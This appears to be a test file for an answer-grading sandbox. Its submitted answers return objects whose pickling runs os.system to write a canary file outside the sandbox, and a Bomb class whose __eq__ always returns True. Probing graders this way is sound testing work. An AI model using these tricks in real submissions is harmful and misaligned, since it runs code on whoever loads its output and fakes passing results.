# %% [markdown]
# tries: Answers with objects whose pickle runs a program where it is opened.

# %%
import os


class Bomb:
    def __reduce__(self):
        return os.system, ("touch __OUTSIDE__/__NAME__",)

    def __eq__(self, other):
        return True

    __hash__ = object.__hash__


class Loaded(torch.Tensor):
    __reduce_ex__ = lambda self, protocol: Bomb().__reduce__()


# %% answer="mean"
def mean(x):
    return Bomb()

# %% answer="tail"
def tail(x):
    return x[:-1].as_subclass(Loaded)

# %% answer="ones"
ones = torch.zeros(3).as_subclass(Loaded)
